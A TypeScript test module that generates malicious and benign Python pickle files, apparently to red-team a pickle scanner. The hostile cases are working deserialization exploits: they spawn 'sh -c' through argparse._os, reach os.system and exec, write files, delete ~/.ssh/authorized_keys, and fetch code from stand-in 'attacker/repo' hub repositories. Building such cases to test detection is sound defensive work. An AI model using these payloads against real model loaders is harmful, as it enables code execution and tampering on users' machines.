import { dumps, le, Ops, py } from '../pickle-writer.ts';
import { MARKER, type RedTeamCase } from '../red-team/types.ts';

/**
 * Protocol 4 `find_class` walks a dotted name attribute by attribute (`_getattribute`), so the name part of
 * a global can step from an allowed module or class into whatever it holds: a module imported under a
 * private alias (`argparse._os`, `pathlib.io`), or a method that writes files (`numpy.ndarray.tofile`,
 * `pathlib.Path.touch`, `torch.UntypedStorage.from_file(…, shared=True)`). Each stream here that CPython can
 * load without third-party packages (argparse, pathlib) was run with `pickle.loads` and ran its payload.
 */
const sg = (o: Ops, module: string, name: string): Ops => o.str(module).str(name).stackGlobal();
/** `module.name(*args)` with string or int arguments (protocol 4, STACK_GLOBAL). */
function call(module: string, name: string, ...args: (string | number | ((o: Ops) => Ops))[]): Uint8Array {
  const o = sg(new Ops().proto(4), module, name).mark();
  for (const a of args) {
    if (typeof a === 'string') o.str(a);
    else if (typeof a === 'number') o.int(a);
    else a(o);
  }
  return o.tuple().reduce().stop().bytes();
}
/** `pathlib.Path(text)` pushed as an argument. */
const path = (text: string) => (o: Ops) => sg(o, 'pathlib', 'Path').str(text).tuple1().reduce();
/** A NumPy array as `ndarray.__reduce__` starts one: `_reconstruct(ndarray, (0,), b'b')`. */
const reconstructArray = (o: Ops) => {
  sg(o, 'numpy.core.multiarray', '_reconstruct').mark();
  sg(o, 'numpy', 'ndarray');
  return o.int(0).tuple1().binbytes(new TextEncoder().encode('b')).tuple().reduce();
};
const tuple = (...items: string[]) => (o: Ops) => {
  o.mark();
  for (const i of items) o.str(i);
  return o.tuple();
};

/**
 * 100 memoized 1,000-character strings, then `text` memoized (past a 64 KB memo budget, so only its presence
 * is kept) and fetched back as the argument of `module.name`: the memo placeholder where text decides.
 */
function pastTheMemoBudget(module: string, name: string, text: string): Uint8Array {
  const o = new Ops().proto(4);
  for (let k = 0; k < 100; k++) o.str(`${k}`.padEnd(1000, '.')).memoize().pop();
  o.str(text).memoize().pop();
  return sg(o, module, name).op('j', le(100, 4)).tuple1().reduce().stop().bytes();
}

export function pickleCases(): RedTeamCase[] {
  const hostile = (name: string, bytes: Uint8Array, how: string): RedTeamCase => ({ name, kind: 'pickle', file: `${name}.pkl`, bytes, expect: 'dangerous', how });
  const honest = (name: string, bytes: Uint8Array, how: string): RedTeamCase => ({ name, kind: 'pickle', file: `${name}.pkl`, bytes, expect: 'clean', how });
  return [
    hostile('argparse-private-os-spawnvp', call('argparse', '_os.spawnvp', 1, 'sh', tuple('sh', '-c', MARKER)), 'argparse imports os as _os: find_class walks to os.spawnvp, which runs sh (ran under CPython 3.11)'),
    hostile('argparse-private-os-posix-spawnp', call('argparse', '_os.posix_spawnp', 'sh', tuple('sh', '-c', MARKER), (o) => o.emptyDict()), 'os.posix_spawnp through argparse._os'),
    hostile('pathlib-io-open-for-writing', call('pathlib', 'io.open', '/tmp/rampart-red-team', 'w'), 'pathlib imports io: io.open(path, "w") creates or truncates a file (ran under CPython 3.11)'),
    hostile('ndarray-tofile', call('numpy', 'ndarray.tofile', reconstructArray, '/tmp/rampart-red-team'), 'the unbound method ndarray.tofile writes the array to any path'),
    hostile('ndarray-dump', call('numpy', 'ndarray.dump', reconstructArray, '/tmp/rampart-red-team.pkl'), 'ndarray.dump pickles the array to any path'),
    hostile('path-touch', call('pathlib', 'Path.touch', path('/tmp/rampart-red-team')), 'Path.touch creates a file (Path is allowed, its methods are not)'),
    hostile('posixpath-unlink', call('pathlib', 'PosixPath.unlink', path('/home/user/.ssh/authorized_keys')), 'PosixPath.unlink deletes a file'),
    hostile('untyped-storage-from-file-shared', call('torch', 'UntypedStorage.from_file', '/home/user/.bashrc', (o) => o.op(0x88), 4096), 'from_file(…, shared=True) maps a file writable into a storage (torch.load with weights_only=False)'),
    hostile('multiprocess-forkingpickler-loads', call('multiprocess.reduction', 'ForkingPickler.loads', (o) => o.binbytes(dumps(py.reduce(py.global('os', 'system'), py.tuple(MARKER)), 2))), "multiprocess (dill's fork of multiprocessing) unpickles with dill"),
    hostile('scipy-template-made-by-reconstructor', dumps(py.reduce(py.global('copy_reg', '_reconstructor'), py.tuple(py.global('scipy.stats._continuous_distns', 'norm_gen'), py.global('__builtin__', 'object'), null), { state: py.dict({ _parse_arg_template: `import os\nos.system('${MARKER}')\n`, a: py.float(0), b: py.float(1) }) }), 2), 'rv_generic.__setstate__ execs _parse_arg_template whoever made the instance (copyreg._reconstructor here, not NEWOBJ)'),
    // The text's value is not kept, so the scan cannot say it is text: inconclusive (pickle/limit), as for other placeholders where the value decides.
    { ...hostile('text-past-the-memo-budget', pastTheMemoBudget('scipy.stats._morestats', 'Poly', '__import__("os").system("id")'), 'a class trusted by its module path only may not be given text (a re-exported sympy class sympifies it); fetched from a memo entry past the budget, the text went unchecked'), expect: 'inconclusive', limits: { maxMemoBytes: 64 * 1024 } },
    { ...honest('path-past-the-memo-budget', pastTheMemoBudget('pathlib', 'PosixPath', 'data/train'), 'an exactly allowed class given a constant past the memo budget (data is all it takes)'), limits: { maxMemoBytes: 64 * 1024 } },
    hostile('hydra-instantiate', dumps(py.reduce(py.global('hydra.utils', 'instantiate'), py.tuple(py.dict({ _target_: 'os.system', command: MARKER }))), 4), 'hydra.utils.instantiate imports and calls the `_target_` its config names'),
    hostile('transformers-from-pretrained', call('transformers', 'AutoModel.from_pretrained', 'attacker/backdoored-model'), "downloads a hub repository and loads its weights (and its code, with trust_remote_code)"),
    hostile('mlflow-pyfunc-load-model', call('mlflow.pyfunc', 'load_model', 'runs:/0123456789abcdef/model'), 'mlflow.pyfunc.load_model fetches a model and cloudpickle-loads its python_model.pkl'),
    hostile('huggingface-hub-download', call('huggingface_hub', 'hf_hub_download', 'attacker/repo', 'payload.py'), 'downloads a file from the hub'),
    honest('transformers-config-instance', dumps(py.reduce(py.global('transformers.models.bert.configuration_bert', 'BertConfig'), py.tuple(), { newobj: true, state: py.dict({ hidden_size: 768, num_attention_heads: 12, model_type: 'bert' }) }), 2), 'torch.save(model) of a transformers model pickles its config as NEWOBJ + BUILD'),
    honest('pathlib-path-protocol-4', dumps(py.dict({ data_dir: py.reduce(py.global('pathlib', 'PosixPath'), py.tuple('data', 'train')), epochs: 3 }), 4), 'a training config holding a PosixPath'),
  ];
}
